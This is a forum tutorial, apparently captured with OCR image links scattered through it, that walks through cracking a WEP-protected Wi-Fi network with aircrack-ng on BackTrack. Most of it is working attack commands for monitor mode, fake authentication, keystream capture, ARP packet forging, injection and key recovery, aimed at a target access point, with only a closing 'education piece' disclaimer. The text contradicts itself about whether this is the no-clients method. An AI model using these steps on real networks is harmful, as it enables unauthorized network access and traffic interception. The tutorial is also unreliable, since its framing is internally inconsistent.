TAZ Forum :: A Computer, Gaming, and Social Network Community of Friends :: TAZForum :: View topic – Tutorial- Cracking WEP with no Clients

Ok, this tutorial should be pretty straightforward and easy, then again, thats the entire idea behind a tutorialright? Anyway, to business, this tutorial will show you how to crack WEP very quickly using the aircrack on the backtrack security liveCD, that you can find here;


**quick note, cracking WEP with no clients will be out tonight/sometime real soon**

We will go over
1) Putting your atheros based card into monitor mode
2) Getting packet injection ready
3) injecting/sniffing
4) Cracking the WEP

This is the easier method, the one where the WEP has clients present, and you can use a deauth attack on them. Ok, enough talk, to business!

Monitor Mode

The first thing to do is boot up backtrack, basically by booting to a CD like you normally would, if you can’t figure this out, ask down below,or go use google. login to backtrack under root (password ‘toor’), and then type “startx” into the command line to start out GUI.

Sweet, now we are running *nix, and we can start the good stuff. Openup a command line, but clicking on the icon that looks like one on the bottom next to the ‘start’ type thingy (let me know if I get to technical Smile )

Now, we need to enter this into the command line;

$ airmon-ng start wifi0 6

**starts wifi0 on channel 6, change for the channel of the network you are attacking, use kismet for this, not covered in this tutorial**

$ wlanconfig ath0 destroy
$ ifconfig ath1 up
$ iwconfig ath1 mode monitor 6

Sweet, now we have our card in monitor mode, and we can move onto bigger and better things.Start up Airodump and getting some info ready

ok, lets start airodump so we can get some info out of it, and then we can just leave it running.

$ airodump-ng –ivs –write bob–channel 6 ath1

**basically heres what each thing means;
–ivs= only write the weak IV’s, not every packet
–write= the prefix of the file we are writing to, so bob.ivs
–channel= the channel to scan on
ath1= our network device**

Now that airodump is running, we need to snag a couple pieces of information from it, 1) The MAC address of the AP we are attacking, it’ll be in the first column. 2) the essid of the network, i.e. “linksys”, or something similar.Now, open up a new terminal (DON”T CLOSE AIRODUMP). type this line in;

$ export AP=mac_of_ap

Now wealso have to get our mac address; this is easy in backtrack just type in the following;

$ macchanger –show ath1
**your output here**
export MAC=your_mac_address

This basically just stored those as variables, so you don’t have to type them a bunch of times in the coming steps.

Getting everything readyBasically what we are going to do to the network, is fake authorize ourselves using aireplay. Then using the same program, we are going to grab some peices of packets out of the replies given by fakeauth, and use those to create an arp reply packet with packetforge, to inject into the network to create IV’s, so we can crack the key! Whew, lets get started!

First we need to set up, but NOT run our fake auth attack;

$ aireplay-ng -1 0 -e linksys -a $AP -h $MAC ath1

so, we are running aireplay attack 1, with no delay,linksys is the essid of the network we are attacking, -a is the MAC of the AP we are attacking, and -h is our MAC address. Don’t run this yet, we will soon enough.

Open up another command line, so we can get ready to sniff out the packets we need. Enter the following;

$ aireplay-ng -5 -b $AP -h $MAC

Cool, step 1 of 2 is done for getting ready to create IV’s, next we have to sniff a packet, and then create one of our own. So run the aireplay -5 command first, it will start to sniff the network, then run the first command. Eventually the -5 will find a packet that it can use, and it will ask you if you want to use it, say yes (type y and press enter). Now you can cancel the first command (stop it from fake auth’ing over and over) by pressing ctrl-c. Leave the window open.

Now, after we told aireplay-ng -5 yes, it should have created a .xor file. In the output, the name of it should be there. The line looks like this;

Saving Keystream in fragment-0215-124336.xor**yours will be different**

Now, using this .xor file we can create an arp-reply package which we can inject to create weak IV’s. So in the same window we ran the aireplay-ng -5 command, type in the following;

$ packetforge-ng -0 -a $AP -h $MAC -k -l -y your_.xor_file.xor -w arp-request

That will generate what we need, now we can run the final injection command that willinject the arp-request packets. Enter the following;

aireplay-ng -2 -r arp-request ath1

*you will have to say yes again btw*

Now you get to watch your #data column in airodump (you didn’t close it did you?) skyrocket! Wait a few minutes, and when you have 100k packets (the #data column, 1 mil for 128 bit) run the following command to crack the key!

$ aircrack-ng -n 64 -b $AP *.ivs

**note, if its 128 bit, change 64 to 128**

There ya go! You have cracked WEP when there are no clients on the network!

**This is an education peice, you should not becracking anybody elses network, it can get you fined/landed in jail, I take no responsibility for anything you do with this information**

By admin

Former Freehand Freelance Graphic Illustrator... been online since 2004 ( late starter ), blogging since 2005,presently writing a suspense-thriller e-bookthat began as a screenplay.